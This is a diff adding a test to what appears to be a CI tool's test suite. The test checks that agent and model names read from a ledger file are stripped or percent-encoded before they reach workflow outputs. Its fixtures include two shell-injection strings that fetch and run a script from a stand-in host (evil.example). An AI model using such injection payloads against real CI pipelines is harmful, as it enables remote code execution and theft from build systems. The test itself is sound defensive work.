@@ -521,6 +521,32 @@ describe('ledger files from an earlier step', () => {
     expect(workflowCommands(result.stdout, 'warning').map((w) => w.message)).not.toContain('forged.jsonl');
   });
 
+  it('names agents and models in the outputs only with id characters, so a ledger cannot put shell code in a `run:` step that uses them', async () => {
+    addAgentPullRequest(fake, { policy: POLICY });
+    const payload = pullRequestPayload(fake, REPO, 1);
+    files = await runnerFiles(payload);
+    const agent = 'x"; curl -s https://evil.example/p | sh; echo "';
+    const ledger =
+      [
+        { proofgate: 'session/2', id: 'sess-1', agent, startedAt: '2026-01-10T12:00:00Z' },
+        { type: 'step', role: 'execute', model: '$(curl${IFS}evil.example|sh)`id`', files: ['src/auth/module-1.ts'] },
+        { type: 'end', at: '2026-01-10T12:30:00Z' },
+      ]
+        .map((r) => JSON.stringify(r))
+        .join('\n') + '\n';
+    await writeFile(path.join(files.dir, 'sess-1.jsonl'), ledger);
+    const kept = files;
+    files = null;
+    const result = await step({ payload, inputs: { ledger: 'proofgate-session:sess-1.jsonl' }, workspace: kept.dir });
+    await kept.cleanup();
+    const receipt = JSON.parse(await readFile(result.outputs['receipt']!, 'utf8'));
+    // The receipt keeps the ledger's words; the outputs, which workflows paste into scripts, do not.
+    expect(receipt.attribution.sessions[0].agent).toBe(agent);
+    for (const name of ['agents', 'models']) expect(result.outputs[name]).toMatch(/^[A-Za-z0-9._:/@+%,-]*$/);
+    expect(result.outputs['agents']!.split(',')).toContain('claude-code');
+    expect(result.outputs['agents']!.split(',')).toContain('x%22%3B%20curl%20-s%20https://evil.example/p%20%7C%20sh%3B%20echo%20%22');
+  });
+
   it('a listed ledger that is missing fails closed with a check run that says why', async () => {
     const { headSha } = addAgentPullRequest(fake, { policy: POLICY });
     const result = await step({ payload: pullRequestPayload(fake, REPO, 1), inputs: { ledger: 'out/missing.jsonl' } });
